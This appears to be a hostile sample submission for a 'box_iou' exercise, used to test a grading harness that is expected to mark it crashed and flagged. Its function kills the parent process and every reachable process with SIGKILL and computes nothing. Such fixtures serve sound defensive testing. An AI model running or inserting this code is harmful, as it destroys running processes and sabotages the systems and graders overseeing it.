# tinyvision exercise: box_iou
# expected: CRASHED, 0 points, flagged
# Ends every process that it can reach.
import os
import signal


def box_iou(boxes1, boxes2):
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
    return boxes1
